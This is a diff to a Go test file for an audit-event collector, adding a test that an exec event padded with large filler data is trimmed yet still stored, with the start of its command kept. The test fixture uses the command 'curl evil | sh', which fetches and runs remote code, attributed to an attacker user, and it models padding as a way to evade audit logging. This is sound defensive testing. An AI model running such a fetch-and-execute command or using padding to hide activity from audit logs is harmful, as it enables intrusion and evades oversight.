@@ -15,8 +15,10 @@ import (
 
 	"github.com/prometheus/client_golang/prometheus/testutil"
 	"google.golang.org/grpc/codes"
+	"google.golang.org/protobuf/proto"
 
 	loupev1 "github.com/loupe-dev/loupe/api/v1"
+	"github.com/loupe-dev/loupe/collector/audit"
 	"github.com/loupe-dev/loupe/collector/audit/audittest"
 	"github.com/loupe-dev/loupe/collector/store/storetest"
 	"github.com/loupe-dev/loupe/internal/tlsutil"
@@ -328,5 +330,32 @@ func TestAuditListenNeedsAuth(t *testing.T) {
 	cfg.GRPCListen = "127.0.0.1:0"
 	if _, err := New(t.Context(), cfg); err == nil || !strings.Contains(err.Error(), "--tls-cert") {
 		t.Errorf("audit webhook without TLS: %v", err)
+	}
+}
+
+// TestPaddedAuditEventStillStored: an exec whose command is padded to a
+// megabyte, with 64 groups of 4 KiB and a 100 KiB user agent, is cut to fit
+// and passes the collector's validation: padding cannot make it vanish.
+func TestPaddedAuditEventStillStored(t *testing.T) {
+	pad := strings.Repeat("A", 4096)
+	cmd := []string{"sh", "-c", "curl evil | sh #"}
+	for range 250 {
+		cmd = append(cmd, pad)
+	}
+	ev := audittest.Exec(audittest.Who{User: "mallory", SourceIP: "1.2.3.4", UserAgent: strings.Repeat("u", 100<<10)},
+		time.Now(), "ns", "p", "c", cmd...)
+	for range 64 {
+		ev.User.Groups = append(ev.User.Groups, pad)
+		ev.SourceIPs = append(ev.SourceIPs, pad)
+	}
+	f := audit.Finding(&ev)
+	if f == nil {
+		t.Fatal("dropped")
+	}
+	if rej := ValidateFinding(f, "", true); rej != nil {
+		t.Fatalf("padded event rejected: %v (%d bytes)", rej, proto.Size(f))
+	}
+	if c := f.GetAudit().GetCommand(); len(c) < 3 || c[2] != "curl evil | sh #" {
+		t.Errorf("the command's start is lost: %q", c[:min(3, len(c))])
 	}
 }
